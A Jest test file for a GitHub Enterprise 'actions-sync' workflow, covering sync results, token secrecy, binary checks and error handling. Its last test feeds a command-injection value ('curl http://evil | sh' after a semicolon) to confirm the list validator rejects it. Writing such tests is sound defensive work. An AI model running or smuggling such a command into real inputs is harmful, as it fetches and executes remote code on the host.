import { afterEach, describe, expect, it } from '@jest/globals';
import type { LocalWorld } from '../../local/world.js';
import { causeMessage } from '../../shared/errors.js';
import { runWorkflow, testWorld } from '../helpers/local-world.js';

let world: LocalWorld | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
});

function start(scenario = 'healthy'): LocalWorld {
  world = testWorld({ scenario, timeScale: 0.0005 });
  return world;
}

const everything = (w: LocalWorld, history: unknown): string =>
  JSON.stringify(history) +
  w.logLines.join('\n') +
  JSON.stringify(w.outbox?.sent ?? []) +
  JSON.stringify(w.sandbox?.commandLog ?? []);

describe('actions-sync workflow (local engine, sandbox)', () => {
  it('syncs every action, each in its own call with its own cache dir, and emails the report; the token appears nowhere', async () => {
    const w = start();
    const { result, history } = await runWorkflow(w, 'actions-sync', { concurrency: 2 });
    expect(result.status).toBe('SUCCEEDED');
    const out = result.output as {
      counts: Record<string, number>;
      results: { action: string; outcome: string }[];
    };
    expect(out.counts).toEqual({ synced: 5, unchanged: 0, failed: 0, total: 5 });
    expect(w.actionsSync!.sim.calls.map((c) => c.repos)).toHaveLength(5);
    const lines = w
      .sandbox!.commandLog.map((c) => c.line)
      .filter((l) => l.startsWith('ghes-ops-actions-sync'));
    expect(lines).toContain(
      `ghes-ops-actions-sync --binary /usr/local/bin/actions-sync --token-parameter /ghes-ops/actions-sync/token -- sync --cache-dir /data/user/ghes-ops/actions-sync-cache/actions__checkout --destination-url ${await w.deps.ghesApi.baseUrl()} --repo-name actions/checkout`,
    );
    expect(w.outbox!.sent[0]!.subject).toBe('[ghes-ops] actions-sync: 5 actions synced (0 unchanged)');
    expect(w.outbox!.sent[0]!.text).toMatch(/actions\/action-slack\s+synced/);
    expect(everything(w, history)).not.toContain(w.actionsSync!.token);

    // A second run finds everything unchanged.
    const again = await runWorkflow(w, 'actions-sync', {});
    expect((again.result.output as { counts: Record<string, number> }).counts.unchanged).toBe(5);
  });

  it('tells updated from unchanged by the destination refs, not by the tool wording (which is the same)', async () => {
    const w = start();
    const first = await runWorkflow(w, 'actions-sync', {});
    const out1 = first.result.output as { results: { action: string; outcome: string; refs?: string }[] };
    expect(out1.results.find((r) => r.action === 'actions/checkout')).toMatchObject({
      outcome: 'synced',
      refs: 'created (2 refs)',
    });
    // github.com gets a new commit on one action; the others stay put.
    w.actionsSync!.sim.pushUpstream('actions/checkout');
    const outputsBefore = w.sandbox!.commandLog.length;
    const second = await runWorkflow(w, 'actions-sync', {});
    const out2 = second.result.output as {
      counts: Record<string, number>;
      results: { action: string; outcome: string; refs?: string }[];
    };
    expect(out2.counts).toEqual({ synced: 1, unchanged: 4, failed: 0, total: 5 });
    expect(out2.results.find((r) => r.action === 'actions/checkout')).toMatchObject({
      outcome: 'synced',
      refs: 'refs updated (2 before, 2 after)',
    });
    expect(out2.results.find((r) => r.action === 'actions/cache')).toMatchObject({
      outcome: 'unchanged',
      refs: '2 refs unchanged',
    });
    expect(w.outbox!.sent.at(-1)!.text).toMatch(/actions\/checkout\s+synced\s+.*refs updated/);
    // The tool printed the same for the changed and the unchanged repository.
    const history = JSON.stringify(second.history);
    expect(history).not.toContain('already up-to-date');
    expect(w.sandbox!.commandLog.length).toBeGreaterThan(outputsBefore);
    const states = second.history.filter((e) => e.type === 'StateEntered').map((e) => e.stateName);
    expect(states.indexOf('CompareRefs')).toBeGreaterThan(states.lastIndexOf('SyncActions'));
    expect(states.indexOf('CompareRefs')).toBeLessThan(states.indexOf('Report'));
  });

  it("checks the version of the binary it runs, by its path (not the PATH's actions-sync)", async () => {
    const w = start();
    await runWorkflow(w, 'actions-sync', {});
    const lines = w.sandbox!.commandLog.map((c) => c.line);
    expect(lines).toContain('/usr/local/bin/actions-sync version');
    expect(lines).not.toContain('actions-sync version');
    expect(
      lines
        .filter((l) => l.startsWith('ghes-ops-actions-sync'))
        .every((l) => l.startsWith('ghes-ops-actions-sync --binary /usr/local/bin/actions-sync ')),
    ).toBe(true);
  });

  it('missing workflow scope: TokenScopeMissing before any sync, with the fix', async () => {
    const w = start('actions-sync-no-workflow-scope');
    const { result, history } = await runWorkflow(w, 'actions-sync', {});
    expect(result.status).toBe('FAILED');
    expect(result.error).toBe('TokenScopeMissing');
    expect(causeMessage(result.cause)).toMatch(
      /lacks the "workflow" scope \(it has: repo\).*settings\/tokens/,
    );
    expect(w.actionsSync!.sim.calls).toHaveLength(0);
    expect(w.outbox!.sent[0]!.subject).toMatch(/FAILED before syncing: TokenScopeMissing/);
    expect(everything(w, history)).not.toContain(w.actionsSync!.token);
  });

  it('not an owner of actions: NotOrganizationOwner naming ghe-org-admin-promote', async () => {
    const w = start('actions-sync-not-owner');
    const { result } = await runWorkflow(w, 'actions-sync', {});
    expect(result.error).toBe('NotOrganizationOwner');
    expect(causeMessage(result.cause)).toContain('ghe-org-admin-promote -u octocat -o actions');
    expect(w.actionsSync!.sim.calls).toHaveLength(0);
  });

  it('386 binary on x86_64: ActionsSyncWrongArchitecture naming the linux_amd64 asset and the misleading 404', async () => {
    const w = start('actions-sync-386-binary');
    const { result } = await runWorkflow(w, 'actions-sync', {});
    expect(result.error).toBe('ActionsSyncWrongArchitecture');
    expect(causeMessage(result.cause)).toMatch(
      /linux_386 build, but the host is x86_64.*404 Not Found.*linux_amd64/,
    );
    expect(w.actionsSync!.sim.calls).toHaveLength(0);
  });

  it('one action failing among several: the others sync, all results kept, the execution fails at the end', async () => {
    const w = start('actions-sync-one-fails');
    const { result, history } = await runWorkflow(w, 'actions-sync', {});
    expect(result.status).toBe('FAILED');
    expect(result.error).toBe('ActionsSyncFailed');
    expect(causeMessage(result.cause)).toContain(
      'actions/does-not-exist (could not pull actions/does-not-exist, the repository may require authentication or does not exist)',
    );
    const report = history.find((e) => JSON.stringify(e).includes('"counts":{"synced":5'));
    expect(JSON.stringify(report)).toContain('"failed":1');
    expect(w.actionsSync!.sim.synced.size).toBe(5);
    expect(w.outbox!.sent[0]!.subject).toBe('[ghes-ops] actions-sync: 1 of 6 actions FAILED');
  });

  it('transient failure then success: the action is retried with backoff and synced', async () => {
    const w = start('actions-sync-transient');
    const { result, history } = await runWorkflow(w, 'actions-sync', {});
    expect(result.status).toBe('SUCCEEDED');
    expect((result.output as { counts: Record<string, number> }).counts.synced).toBe(5);
    expect(
      history.some((e) => e.type === 'StateRetried' || JSON.stringify(e).includes('ActionsSyncTransient')),
    ).toBe(true);
    expect(w.actionsSync!.sim.calls.filter((c) => c.repos[0] === 'actions/checkout')).toHaveLength(2);
  });

  it('bad list: every bad line with its number, nothing runs', async () => {
    const w = start();
    const { result } = await runWorkflow(w, 'actions-sync', {
      list: 'actions/checkout\nowner/repo; curl http://evil | sh\n# ok\nactions/checkout\n',
    });
    expect(result.error).toBe('ActionsListInvalid');
    const msg = causeMessage(result.cause);
    expect(msg).toContain('line 2:');
    expect(msg).toContain('line 4: "actions/checkout" duplicates line 1');
    expect(w.sandbox!.commandLog).toHaveLength(0);
  });
});
